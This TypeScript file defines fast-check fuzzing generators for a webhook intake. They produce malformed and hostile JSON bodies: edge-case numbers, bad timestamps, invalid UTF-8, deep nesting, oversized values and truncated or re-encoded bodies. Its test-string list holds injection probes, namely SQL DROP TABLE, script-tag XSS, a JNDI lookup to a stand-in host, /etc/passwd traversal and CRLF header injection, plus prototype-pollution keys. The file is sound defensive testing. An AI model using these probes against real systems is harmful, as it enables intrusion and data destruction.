import fc from 'fast-check';
import { addMember, at, fromValue, paths, raw, remove, replace, type Node, type Path } from './json-tree';

/**
 * fast-check arbitraries of hostile webhook bodies: values no vendor sends (wrong types, numbers at the edges,
 * huge strings and arrays, deep nesting, control and bidirectional characters, invalid UTF-8) and mutations of a
 * valid document at one of its paths (replace, delete, add a member, repeat a key), plus whole-body damage
 * (a byte-order mark, truncation, trailing bytes).
 */

/** Numbers as a hostile sender spells them: beyond a double (1e400 parses to Infinity), -0, past 2^53, tiny. */
const EDGE_NUMBERS = ['1e308', '-1e308', '1e400', '-1e400', '-0', '0', '-0.0', '9007199254740993', '-9007199254740993', '123456789012345678901234567890', '1.7976931348623157e308', '5e-324', '1e-400', '-1', '0.5', '4294967296', '1E2', '2e+2'];
/** Strings that look like numbers, booleans or nothing. */
const NUMBER_LIKE_STRINGS = ['NaN', 'Infinity', '-Infinity', '-0', '1e308', '0x10', '1_000', '', ' ', 'null', 'undefined', 'true', '[object Object]'];
/** Timestamps a schema must tell apart from RFC 3339. */
const ODD_TIMESTAMPS = ['2026-13-45T99:99:99Z', '2026-03-12T08:05:00', '2026-03-12 08:05:00Z', '2026-03-12', '0000-00-00T00:00:00Z', '+275760-09-13T00:00:00Z', '9999-12-31T23:59:59Z', '1970-01-01T00:00:00Z', '2026-02-30T10:00:00Z', '2026-03-12T08:05:00.123456789+14:00', 'yesterday', '1760000000'];
/** Strings with characters no id has: injection probes, control, zero-width and bidirectional characters. */
const HOSTILE_STRINGS = [
  "'; DROP TABLE shipments;--",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '../../etc/passwd',
  '{{7*7}}',
  'evt-1\r\nX-Injected: 1',
  'a\u0000b',
  'evt\u200b-1',
  'evt-\u202e1-txe',
  '\ud800',
  '\udfff\ud800',
  '\ufeffSO-1001',
  'SO-1001 ',
  ' SO-1001',
  'SO‐1001',
  'ＳＯ-1001',
  '冷蔵 🚚',
  'SO-1001~SHP-1001-01',
  'SO-1001~~',
  '~SHP-1',
  'x'.repeat(129),
];

/** A leaf or small value of a type other than expected (or the same type with another value). */
const simpleValue: fc.Arbitrary<Node> = fc.oneof(
  fc.constant(raw('null')),
  fc.boolean().map((b) => raw(String(b))),
  fc.integer().map((n) => raw(String(n))),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map((n) => raw(JSON.stringify(n))),
  fc.string({ maxLength: 40 }).map((s) => raw(JSON.stringify(s))),
  fc.string({ maxLength: 12, unit: 'binary' }).map((s) => raw(JSON.stringify(s))),
  fc.constant(raw('[]')),
  fc.constant(raw('{}')),
  fc.jsonValue({ maxDepth: 3 }).map(fromValue),
);

const edgeNumber = fc.constantFrom(...EDGE_NUMBERS).map(raw);
const numberLikeString = fc.constantFrom(...NUMBER_LIKE_STRINGS).map((s) => raw(JSON.stringify(s)));
const oddTimestamp = fc.constantFrom(...ODD_TIMESTAMPS).map((s) => raw(JSON.stringify(s)));
const hostileString = fc.constantFrom(...HOSTILE_STRINGS).map((s) => raw(JSON.stringify(s)));

/** A lone UTF-16 surrogate or a control character, somewhere in an otherwise plain string. */
const brokenText = fc
  .tuple(fc.string({ maxLength: 8 }), fc.integer({ min: 0, max: 0xffff }), fc.string({ maxLength: 8 }))
  .map(([a, code, b]) => raw(JSON.stringify(`${a}${String.fromCharCode(code)}${b}`)));

/** Long strings: some fit the body bound, some do not (the harness bound is 256 KiB). */
const hugeString = fc
  .tuple(fc.integer({ min: 129, max: 300_000 }), fc.constantFrom('x', 'é', '🚚', '\\u0000', '\\"', ' '))
  .map(([n, unit]) => raw(`"${unit.repeat(Math.ceil(n / unit.length))}"`));

/** Large arrays of small items. */
const hugeArray = fc
  .tuple(fc.integer({ min: 51, max: 60_000 }), fc.constantFrom('0', 'null', '{}', '"x"', '[]'))
  .map(([n, item]) => raw(`[${new Array<string>(n).fill(item).join(',')}]`));

/** Nesting of arrays or objects, from harmless to far past the 32 levels the intake allows. */
const deepNesting = fc
  .tuple(fc.integer({ min: 2, max: 5_000 }), fc.boolean())
  .map(([depth, arrays]) => raw(arrays ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`));

/** Byte sequences that are not UTF-8, as the contents of a JSON string. */
const INVALID_UTF8 = [[0xc3, 0x28], [0xff], [0xfe, 0xff], [0xed, 0xa0, 0x80], [0xc0, 0xaf], [0xe2, 0x82], [0xf8, 0x88, 0x80, 0x80, 0x80], [0x80], [0xf4, 0x90, 0x80, 0x80]];
const invalidUtf8String = fc
  .tuple(fc.string({ maxLength: 6, unit: 'grapheme-ascii' }), fc.constantFrom(...INVALID_UTF8))
  .map(([prefix, bytes]) => raw(Buffer.concat([Buffer.from(JSON.stringify(prefix).slice(0, -1)), Buffer.from(bytes), Buffer.from('"')])));

/** Any hostile value, weighted towards the cheap ones (huge values are slow to sign and parse). */
export const hostileValue: fc.Arbitrary<Node> = fc.oneof(
  { arbitrary: simpleValue, weight: 10 },
  { arbitrary: edgeNumber, weight: 4 },
  { arbitrary: numberLikeString, weight: 3 },
  { arbitrary: oddTimestamp, weight: 3 },
  { arbitrary: hostileString, weight: 4 },
  { arbitrary: brokenText, weight: 2 },
  { arbitrary: invalidUtf8String, weight: 2 },
  { arbitrary: hugeString, weight: 1 },
  { arbitrary: hugeArray, weight: 1 },
  { arbitrary: deepNesting, weight: 1 },
);

/** Keys of added members: plausible, prototype-pollution probes, case and unicode variants, empty. */
const extraKey = fc.oneof(
  fc.string({ maxLength: 20 }),
  fc.constantFrom('__proto__', 'constructor', 'prototype', '', ' ', 'EventId', 'eventID', 'data ', 'ｄａｔａ', 'extra', 'x-lsync', '$ref', 'toString', 'hasOwnProperty'),
);

export type Mutation =
  | { readonly kind: 'replace'; readonly path: Path; readonly value: Node }
  | { readonly kind: 'delete'; readonly path: Path }
  | { readonly kind: 'add'; readonly path: Path; readonly key: string; readonly value: Node; readonly first: boolean }
  /** A second member with a key the object already has (JSON.parse keeps the last). */
  | { readonly kind: 'duplicate'; readonly path: Path; readonly key: string; readonly value: Node | undefined; readonly first: boolean };

/** Mutations of one document: any path, any kind that applies there. */
export function mutation(doc: Node): fc.Arbitrary<Mutation> {
  const all = paths(doc);
  const members = all.filter((p) => p.path.length > 0);
  const objects = all.filter((p) => p.node.t === 'obj');
  const withKeys = objects.filter((p) => p.node.t === 'obj' && p.node.entries.length > 0);
  const kinds: fc.WeightedArbitrary<Mutation>[] = [
    { weight: 10, arbitrary: fc.record({ kind: fc.constant('replace' as const), path: fc.constantFrom(...all.map((p) => p.path)), value: hostileValue }) },
    { weight: 4, arbitrary: fc.record({ kind: fc.constant('delete' as const), path: fc.constantFrom(...members.map((p) => p.path)) }) },
    { weight: 3, arbitrary: fc.record({ kind: fc.constant('add' as const), path: fc.constantFrom(...objects.map((p) => p.path)), key: extraKey, value: hostileValue, first: fc.boolean() }) },
  ];
  if (withKeys.length > 0) {
    const duplicate = fc
      .constantFrom(...withKeys)
      .chain(({ path, node }) =>
        fc.record({
          kind: fc.constant('duplicate' as const),
          path: fc.constant(path),
          key: fc.constantFrom(...(node.t === 'obj' ? node.entries.map(([k]) => k) : [])),
          // The repeated member holds the same value (undefined here) or a hostile one.
          value: fc.oneof(fc.constant(undefined), hostileValue),
          first: fc.boolean(),
        }),
      );
    kinds.push({ weight: 2, arbitrary: duplicate });
  }
  return fc.oneof(...kinds);
}

/** Damage to the printed body: what a broken proxy, a wrong encoder or a truncating client sends. */
export type BodyDamage =
  | { readonly kind: 'none' }
  | { readonly kind: 'bom' }
  | { readonly kind: 'truncate'; readonly keep: number }
  | { readonly kind: 'append'; readonly text: string }
  | { readonly kind: 'prepend'; readonly text: string }
  | { readonly kind: 'utf16' }
  | { readonly kind: 'latin1' };

export const bodyDamage: fc.Arbitrary<BodyDamage> = fc.oneof(
  { weight: 20, arbitrary: fc.constant<BodyDamage>({ kind: 'none' }) },
  { weight: 1, arbitrary: fc.constant<BodyDamage>({ kind: 'bom' }) },
  { weight: 1, arbitrary: fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }).map((keep): BodyDamage => ({ kind: 'truncate', keep })) },
  { weight: 1, arbitrary: fc.constantFrom(',', '}', ']', 'x', '\u0000', '{}', ' \n\t', '//', '\u00a0').map((text): BodyDamage => ({ kind: 'append', text })) },
  { weight: 1, arbitrary: fc.constantFrom(' \n\t', '\u00a0', ')]}\'\n', 'x', '\u0000').map((text): BodyDamage => ({ kind: 'prepend', text })) },
  { weight: 1, arbitrary: fc.constant<BodyDamage>({ kind: 'utf16' }) },
  { weight: 1, arbitrary: fc.constant<BodyDamage>({ kind: 'latin1' }) },
);

export function damage(body: Buffer, d: BodyDamage): Buffer {
  switch (d.kind) {
    case 'none':
      return body;
    case 'bom':
      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), body]);
    case 'truncate':
      return body.subarray(0, Math.floor(body.length * d.keep));
    case 'append':
      return Buffer.concat([body, Buffer.from(d.text)]);
    case 'prepend':
      return Buffer.concat([Buffer.from(d.text), body]);
    case 'utf16':
      return Buffer.from(body.toString('utf8'), 'utf16le');
    case 'latin1':
      return Buffer.from(body.toString('utf8'), 'latin1');
  }
}

/** The document after a mutation, or undefined when its path no longer exists (an earlier mutation removed it). */
export function applyMutation(doc: Node, m: Mutation): Node | undefined {
  switch (m.kind) {
    case 'replace':
      return replace(doc, m.path, m.value);
    case 'delete':
      return remove(doc, m.path);
    case 'add':
      return addMember(doc, m.path, m.key, m.value, m.first);
    case 'duplicate': {
      const target = at(doc, m.path);
      const existing = target?.t === 'obj' ? target.entries.find(([k]) => k === m.key)?.[1] : undefined;
      if (!existing) return undefined;
      return addMember(doc, m.path, m.key, m.value ?? existing, m.first);
    }
  }
}
